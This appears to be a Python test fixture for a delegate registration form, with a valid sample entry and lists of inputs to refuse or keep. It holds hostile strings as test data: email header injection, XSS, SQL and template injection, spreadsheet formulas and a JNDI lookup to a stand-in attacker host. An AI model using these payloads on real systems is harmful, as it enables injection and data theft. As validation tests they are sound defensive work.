"""The form and the JSON of a delegate who fills everything in as asked."""

from typing import Any

FORM = {
    "title": "Ms",
    "given_names": "Anna",
    "family_names": "Ñandú O'Brien",
    "email": "anna@parliament.aruvia.example",
    "organisation": "aruvia",
    "role": "member",
    "language": "fr",
    "sharing": "A national protocol",
    "access_needs": "",
    "consent": "yes",
    "website": "",
    "started": "0",
}

JSON: dict[str, Any] = {name: value for name, value in FORM.items() if name not in ("website", "started")} | {
    "consent": True
}

TEXTS_TO_REFUSE = [
    "Anna\x00",
    "Anna\x1b[2J",
    "\u202eannA",
    "An\u2028na",
    "Anna\r\nBcc: all@parliament.example",
    "x" * 10_000,
    "A" + "\u0301" * 50,
]

TEXTS_TO_KEEP = [
    "O'Brien",
    "Ñandú",
    "李",
    "عمر",
    "<script>alert(1)</script>",
    '"><img src=x onerror=alert(1)>',
    '=HYPERLINK("https://evil.example")',
    "+1",
    "-1",
    "@SUM(A1)",
    "{{7*7}}",
    "${jndi:ldap://evil.example}",
    "' OR 1=1--",
]

ADDRESSES_TO_REFUSE = [
    "anna@a.example, ben@b.example",
    "Anna <anna@a.example>",
    "аnna@parliament.aruvia.example",
    "anna@parliament.aruvia.example\r\nBcc: all@parliament.example",
    "anna",
]
